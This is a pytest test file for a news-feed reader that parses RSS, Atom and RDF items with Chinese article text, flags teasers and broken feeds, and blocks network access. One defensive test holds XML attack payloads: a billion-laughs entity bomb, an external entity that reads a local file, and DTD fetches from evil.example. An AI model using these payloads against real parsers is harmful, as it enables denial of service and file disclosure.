"""RSS and Atom: every entry an article, teasers told, nothing fetched."""

from __future__ import annotations

import socket
import sys
import time
from datetime import date
from pathlib import Path

import pytest

from kg.errors import NothingUsableError
from kg.read import ReadResult, read_articles

TEXT = "本届茶博会在海州会展中心开幕，共有三百家企业参展，主办方介绍了有关情况。"
OTHER = "第二条消息说的是另一件事，海州港新开通了两条航线，首航船舶已经靠泊。"
LONG = TEXT + OTHER + "海州市商务局有关负责人说，全年还要办二十场展会，涉及茶叶、家具和船舶配套等行业。" * 2


@pytest.fixture(autouse=True)
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)

    def refuse(*_: object, **__: object) -> None:
        raise AssertionError("the network was asked")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    return tmp_path


def read(feed: str, name: str = "feed.xml", encoding: str = "utf-8") -> ReadResult:
    Path(name).write_bytes(feed.encode(encoding))
    return read_articles([name])


def rss(*items: str, head: str = "<title>海州日报</title>") -> str:
    entries = "".join(f"<item>{item}</item>" for item in items)
    return (
        "<?xml version='1.0' encoding='utf-8'?><rss version='2.0' xmlns:dc='http://purl.org/dc/elements/1.1/'"
        f" xmlns:content='http://purl.org/rss/1.0/modules/content/'><channel>{head}{entries}</channel></rss>"
    )


ITEM = (
    "<title>茶博会&amp;开幕</title><link>http://a.example/1</link><pubDate>Mon, 05 Sep 2022 17:30:00 GMT</pubDate>"
    f"<category>会展</category><description><![CDATA[<p>{LONG}</p><script>x()</script>]]></description>"
)
ATOM = (
    "<feed xmlns='http://www.w3.org/2005/Atom'><title>海州日报</title><entry><title>茶博会开幕</title>"
    "<link href='http://a.example/1'/><published>2022-09-05T08:00:00+08:00</published><author><name>王雨</name></author>"
    f"<content type='html'>&lt;p&gt;{LONG}&lt;/p&gt;&lt;p&gt;{OTHER}&lt;/p&gt;</content></entry></feed>"
)
RDF = (
    "<rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#' xmlns='http://purl.org/rss/1.0/'"
    " xmlns:dc='http://purl.org/dc/elements/1.1/'><channel><title>海州日报</title></channel><item>"
    f"<title>茶博会开幕</title><link>http://a.example/1</link><dc:date>2022-09-05</dc:date><description>{LONG}"
    "</description></item></rdf:RDF>"
)


def test_an_item_of_rss() -> None:
    result = read(rss(ITEM))
    (article,) = result.articles
    assert (article.title, article.outlet, article.url) == ("茶博会&开幕", "海州日报", "http://a.example/1")
    assert article.date == date(2022, 9, 6), "in China it was the next day"
    assert article.categories == ("会展",)
    assert article.text == LONG
    assert article.sources[0].path == "feed.xml:1"
    assert result.issues == ()


@pytest.mark.parametrize(("feed", "text"), [(ATOM, f"{LONG}\n{OTHER}"), (RDF, LONG)])
def test_atom_and_the_first_rss(feed: str, text: str) -> None:
    (article,) = read(feed).articles
    assert (article.title, article.date, article.outlet) == ("茶博会开幕", date(2022, 9, 5), "海州日报")
    assert article.text == text


def test_the_longer_of_text_and_summary_counts() -> None:
    whole = f"<content:encoded><![CDATA[<p>{LONG}</p>]]></content:encoded>"
    item = f"<title>甲</title><description>{TEXT}</description>{whole}"
    assert read(rss(item)).articles[0].text == LONG


@pytest.mark.parametrize(
    ("words", "told"),
    [
        (TEXT, True),
        (LONG + "……", True),
        (LONG + " [阅读全文]", True),
        (LONG, False),
    ],
)
def test_a_teaser_is_kept_and_told(words: str, told: bool) -> None:
    item = f"<title>甲</title><pubDate>2022-09-05</pubDate><description>{words}</description>"
    result = read(rss(item))
    assert len(result.articles) == 1
    assert [(issue.kind, issue.source) for issue in result.issues] == ([("teaser", "feed.xml:1")] if told else [])


def test_an_entry_without_words_is_told_and_the_others_are_read() -> None:
    result = read(rss("<title>空</title>", ITEM))
    assert [(issue.kind, issue.place) for issue in result.issues] == [("bad-record", "item 1")]
    assert result.articles[0].sources[0].path == "feed.xml:2"


def test_a_broken_feed_is_read_as_far_as_it_goes() -> None:
    result = read(rss(ITEM, ITEM.replace(TEXT, OTHER))[:-200])
    assert result.articles[0].title == "茶博会&开幕"
    assert "broken-feed" in {issue.kind for issue in result.issues}


def test_a_feed_in_gbk() -> None:
    assert read(rss(ITEM).replace("utf-8", "gbk"), encoding="gbk").articles[0].text == LONG


@pytest.mark.parametrize("name", ["a.txt", "a.rss", "a.html"])
def test_the_content_decides(name: str) -> None:
    assert read(rss(ITEM), name).articles[0].text == LONG


def test_a_page_that_speaks_of_rss_is_no_feed() -> None:
    (article,) = read(f"<html><body><!-- <rss> --><p>{TEXT}</p></body></html>", "a.html").articles
    assert article.text == TEXT


LAUGHS = "<!DOCTYPE rss [<!ENTITY a '哈哈哈哈哈哈哈哈哈哈'>" + "".join(
    f"<!ENTITY {b} '{f'&{a};' * 10}'>" for a, b in zip("abcdefgh", "bcdefghi", strict=True)
)


@pytest.mark.parametrize(
    "doctype",
    [
        LAUGHS + "]>",
        "<!DOCTYPE rss [<!ENTITY i SYSTEM 'secret.txt'>]>",
        "<!DOCTYPE rss [<!ENTITY % p SYSTEM 'http://evil.example/x.dtd'> %p;]>",
        "<!DOCTYPE rss SYSTEM 'http://evil.example/x.dtd'>",
    ],
)
def test_entities_are_not_followed(doctype: str) -> None:
    Path("secret.txt").write_text("这是绝密的内容", encoding="utf-8")
    started = time.process_time()
    item = ITEM.replace("</p>", "</p>&i;") + f"<author>&i;</author><description>{LONG}&i;</description>"
    feed = rss(item).replace("?><rss", f"?>{doctype}<rss")
    try:
        texts = [article.text + article.title + article.outlet for article in read(feed).articles]
    except NothingUsableError:
        texts = []
    assert not any("绝密" in text or "哈" * 100 in text for text in texts)
    assert time.process_time() - started < 5


def test_without_the_extra_it_is_told(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "feedparser", None)
    with pytest.raises(
        NothingUsableError, match=r"RSS and Atom feeds need the extra inputs: pip install 'kg\[inputs\]'"
    ):
        read(rss(ITEM))
